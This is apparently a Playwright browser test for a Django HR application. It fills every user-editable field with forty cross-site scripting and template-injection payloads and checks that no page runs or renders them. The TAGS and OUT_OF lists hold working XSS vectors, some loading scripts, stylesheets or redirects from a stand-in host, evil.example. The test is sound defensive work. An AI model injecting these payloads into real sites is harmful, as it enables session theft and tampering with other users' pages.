"""Forty attacks in everything that people may write: no page runs, loads or draws one of them."""

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Dialog

from tests.journeys.conftest import Product
from tests.journeys.walker import Walker

pytestmark = pytest.mark.browser

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=x autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<button hx-get=/ hx-trigger=load hx-on:click=alert(1)>",
    "<div hx-on::load='alert(1)' hx-nonce=x>",
)
OUT_OF = (
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "`-alert(1)-`${alert(1)}",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ request.META }}{% debug %}<img src=x onerror=alert(1)>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
)
ATTACKS = TAGS + OUT_OF
STRANGE = """() => {
  const odd = "main iframe, object, embed, base, marquee, math, main video, main style, main form "
    + "[autofocus][onfocus], meta[http-equiv], link[href*=evil], [src*=evil], [href^=javascript]";
  const found = [...document.querySelectorAll(odd)];
  for (const one of document.querySelectorAll("*"))
    if ([...one.attributes].some((named) => /^(on|hx-on)/.test(named.name))) found.push(one);
  return found.map((one) => one.outerHTML.slice(0, 120));
}"""
LIVES = f"""
import csv
import io
from datetime import timedelta
from django.urls import reverse
from django.utils import timezone
from companies import walls
from companies.errors import Refusal
from people.actions import attributes, company, invitation, people_import, record
from people.models import Person
from privacy.actions import hold, notice, rights
from objectives.actions import objective
from programmes.actions import programme
attacks, day = {ATTACKS!r}, timezone.localdate()
own = company.found(
    name="Archery", subdomain="target", language="en", hr_email="hr@target.example",
    hr_given_name="Noor", hr_family_name="Vidal",
)
with walls.inside(own):
    hr = Person.objects.get()
    print(reverse("people:accept_invitation", args=[invitation.token(hr)]))
    notice.publish(
        controller=attacks[0], contact=attacks[2], article_fr="\\n".join(attacks),
        article_en="\\n".join(attacks), by=hr,
    )
    for number, words in enumerate(attacks):
        try:
            facts = attributes.declare(
                name=words[:80], kind="choice", options=["a" + words[:70], "b" + words[:70]], by=hr
            )
        except Refusal:
            pass
        person = record.add(
            email=f"p{{number}}@target.example", given_name=words, family_name=words,
            job_title=words, function=words, department=words, site=words,
            employee_number=words[:40] + str(number), manager=hr,
            skills={{"offered": {{words[:100]: 3}}}}, by=hr,
        )
        planned = programme.create(
            name=words, purpose=words, audience=words, enrol_until=day + timedelta(days=5),
            starts_on=day + timedelta(days=9), ends_on=day + timedelta(days=200), by=hr,
        )
        objective.set_objective(
            planned, kind="skills", statement=words, by=hr,
            indicator=dict(
                name=words, unit=words[:20], baseline=1, target=2, due_on=day + timedelta(days=190),
            ),
        )
        programme.edit(
            planned, by=hr, preparation=words, mentor_profile=words, confidentiality=words,
            communication=words, success_factors=words, risks=words,
        )
        asked = rights.receive(person, kind="access", words=words, by=hr)
        hold.place(person, kind="person", reason=words, by=hr)
        print(reverse("people:detail", args=[person.public_id]))
        print(reverse("programmes:detail", args=[planned.public_id]))
        if number % 5 == 0:
            rights.answer(asked, status="refused", words=words, by=hr)
            print(reverse("people:edit", args=[person.public_id]))
            print(reverse("programmes:edit", args=[planned.public_id]))
            print(reverse("privacy:request", args=[asked.public_id]))
            print(reverse("privacy:erase", args=[person.public_id]))
    file = io.StringIO()
    lines = csv.writer(file)
    lines.writerow(["email", "given name", "family name", *attacks])
    for words in attacks:
        lines.writerow(["new@target.example", words, words, *attacks])
    batch = people_import.receive(
        content=file.getvalue().encode(), filename=attacks[2] + ".csv", by=hr
    )
    print(reverse("people:import_review", args=[batch.public_id]))
"""
"""A company whose every word is an attack; prints the invitation of its HR admin, then pages."""
LISTS = (
    "/",
    "/people/?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&site=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "/people/",
    "/people/?page=2",
    "/people/chart",
    "/people/facts",
    "/people/new",
    "/journal",
    "/programmes/",
    "/privacy/holds",
    "/privacy/requests",
    "/privacy/requests/new",
    "/privacy/notice",
    "/privacy/notice/publish",
    "/me",
    "/me/data",
    "/company",
    "/account/login/?next=javascript:alert(1)",
    "/people/%3Cscript%3Ealert(1)%3C/script%3E",
)


def test_no_attack_in_words_of_people_runs(
    product: Product, somebody: Callable[..., Walker]
) -> None:
    assert len(set(ATTACKS)) == 40
    product.stack.manage("shell", "-v", "0", "-c", LIVES)
    words = (product.folder / "log" / "shell.log").read_text().split()
    invited, *pages = (word for word in words if word.startswith("/"))
    walker = somebody(product.site("target"), language="en")
    dialogs: list[str] = []
    walker.page.on("dialog", lambda dialog: note(dialog, dialogs))
    walker.opens_account(walker.site + invited)
    strange = {path: odd for path in (*LISTS, *pages) if (odd := look(walker, path))}
    walker.goes_to("/company")
    strange |= {attack: odd for attack in ATTACKS if (odd := rename(walker, attack))}
    # A browser reports the page for what is absent as an error.
    reports = [text for text in walker.complaints if "404" not in text]
    walker.complaints.clear()
    assert (strange, dialogs, reports) == ({}, [], [])


def note(dialog: Dialog, dialogs: list[str]) -> None:
    dialogs.append(dialog.message)
    dialog.dismiss()


def look(walker: Walker, path: str) -> Any:
    """What an attack has drawn on a page."""
    answer = walker.page.goto(walker.site + path)
    assert answer is not None and answer.status in (200, 404), f"{path}: {answer}"
    return walker.page.evaluate(STRANGE)


def rename(walker: Walker, attack: str) -> Any:
    """The same once the company is called like that: its name stands on every page."""
    walker.fills(name=attack)
    walker.sends()
    assert attack in walker.page.locator(".site-header").inner_text()
    return walker.page.evaluate(STRANGE)
